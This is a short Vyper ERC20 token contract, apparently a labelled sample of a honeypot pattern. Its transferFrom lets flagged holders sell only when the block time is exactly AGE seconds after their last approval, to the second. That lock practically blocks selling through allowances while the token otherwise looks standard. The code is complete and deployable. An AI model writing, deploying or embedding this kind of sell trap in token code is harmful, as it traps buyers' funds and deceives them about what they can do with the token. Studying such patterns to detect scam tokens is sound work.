# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Sells only so long after the approval
@notice A sale passes only so many seconds after the seller's last approval, to the second.
"""

from ..tokens.lib import erc20
from ..tokens.lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.transfer,
    owned.owner,
)

AGE: public(immutable(uint256))

approved_at: public(HashMap[address, uint256])


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256, age: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()
    AGE = age


@external
def approve(spender: address, amount: uint256) -> bool:
    erc20._approve(msg.sender, spender, amount)
    self.approved_at[msg.sender] = block.timestamp
    return True


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    if owned._is_holder(source):
        assert block.timestamp - self.approved_at[source] == AGE, "not now"
    erc20._spend(source, msg.sender, amount)
    erc20._move(source, to, amount)
    return True
